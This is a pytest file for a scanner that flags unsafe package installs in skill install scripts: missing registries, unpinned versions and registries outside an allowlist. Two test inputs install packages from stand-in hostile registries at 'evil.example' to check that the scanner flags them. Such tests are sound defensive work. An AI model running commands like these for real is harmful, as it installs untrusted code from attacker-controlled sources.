"""Tests for the unsafe package install detector."""

from skillscan.config import AllowlistConfig, Config
from skillscan.scanners import PackageInstallScanner


def _scan(tmp_path, text, config=None):
    root = tmp_path / "skill"
    root.mkdir(exist_ok=True)
    (root / "install.sh").write_text(text, encoding="utf-8")
    return PackageInstallScanner().scan(root, config or Config()).findings


def _ids(findings):
    return [f.rule_id for f in findings]


class TestMissingSource:
    def test_npm_without_registry(self, tmp_path):
        assert _ids(_scan(tmp_path, "npm install lodash\n")) == ["pkg/F1-npm"]

    def test_npm_with_allowed_registry(self, tmp_path):
        assert _scan(tmp_path, "npm install --registry https://registry.npmjs.org lodash\n") == []

    def test_bun_without_registry(self, tmp_path):
        assert _ids(_scan(tmp_path, "bun add zod\n")) == ["pkg/F1-bun"]

    def test_pip_without_index(self, tmp_path):
        assert _ids(_scan(tmp_path, "pip3 install requests\n")) == ["pkg/F1-pip"]

    def test_pip_with_index(self, tmp_path):
        assert _scan(tmp_path, "pip install --index-url https://pypi.org/simple/ requests\n") == []
        assert _scan(tmp_path, "pip install -i https://pypi.org/simple/ requests\n") == []

    def test_comment_skipped(self, tmp_path):
        assert _scan(tmp_path, "# npm install lodash\n") == []


class TestUnpinned:
    def test_latest(self, tmp_path):
        assert "pkg/F2-unpinned" in _ids(_scan(tmp_path, "npx create-thing@latest app\n"))


class TestRegistryAllowlist:
    def test_unknown_registry(self, tmp_path):
        findings = _scan(tmp_path, "npm install --registry=https://npm.evil.example/ pkg\n")
        assert _ids(findings) == ["pkg/F3-registry"]
        assert findings[0].message == "Registry URL not in allowlist: https://npm.evil.example/"

    def test_host_in_path_does_not_pass(self, tmp_path):
        findings = _scan(tmp_path, "npm i --registry https://evil.example/registry.npmjs.org/ pkg\n")
        assert _ids(findings) == ["pkg/F3-registry"]

    def test_custom_registry_allowed(self, tmp_path):
        config = Config(allowlist=AllowlistConfig(registries=["npm.corp.example"]))
        assert _scan(tmp_path, "npm i --registry https://npm.corp.example/ pkg\n", config) == []


class TestScanner:
    def test_rules_are_warnings(self):
        infos = PackageInstallScanner().rules()
        assert {i.severity.value for i in infos} == {"warning"}
        assert len(infos) == 5

    def test_line_numbers(self, tmp_path):
        findings = _scan(tmp_path, "set -e\n\nnpm install left-pad\n")
        assert findings[0].line == 3
        assert findings[0].file == "install.sh"
